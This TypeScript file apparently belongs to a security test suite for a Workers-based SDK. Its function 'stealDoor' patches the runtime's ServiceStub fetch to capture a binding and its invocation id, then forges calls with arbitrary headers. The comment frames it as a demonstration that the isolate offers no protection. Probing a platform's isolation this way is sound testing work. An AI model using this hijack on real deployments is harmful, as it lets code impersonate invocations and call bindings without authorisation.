/**
 * The binding behind `ctx`, and the id of the running invocation, which the SDK keeps to itself: taken by replacing the
 * engine's own `fetch` of bindings and letting the SDK use it once. Whoever controls the bundle can do this, which is
 * why nothing in the isolate protects the node.
 */
import type { BaseContext } from "@ward/sdk";
import { load } from "./attempts.ts";

export interface StolenDoor {
  readonly invocation: string;
  /** One call in the SDK's form, with whatever headers the thief likes. */
  call(binding: string, body: unknown, headers?: Readonly<Record<string, string>>): Promise<Response>;
}

interface Binding {
  fetch: (this: Binding, url: string, init: Init) => Promise<Response>;
}
interface Init {
  readonly method: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

export async function stealDoor(ctx: BaseContext): Promise<StolenDoor> {
  const { ServiceStub } = await load<{ ServiceStub: { prototype: Binding } }>("cloudflare", "workers");
  const { prototype } = ServiceStub;
  const { fetch } = prototype;
  const taken = Promise.withResolvers<{ readonly door: Binding; readonly init: Init }>();
  prototype.fetch = function (url, init) {
    taken.resolve({ door: this, init });
    return fetch.call(this, url, init);
  };
  ctx.log("stolen");
  const { door, init } = await taken.promise;
  prototype.fetch = fetch;
  const own = init.headers["ward-invocation"] ?? "";
  return {
    invocation: own,
    call: (binding, body, headers = {}) =>
      door.fetch(`http://ward/door/${binding}`, {
        method: "POST",
        headers: { "content-type": "application/json", "ward-invocation": own, ...headers },
        body: JSON.stringify(body),
      }),
  };
}
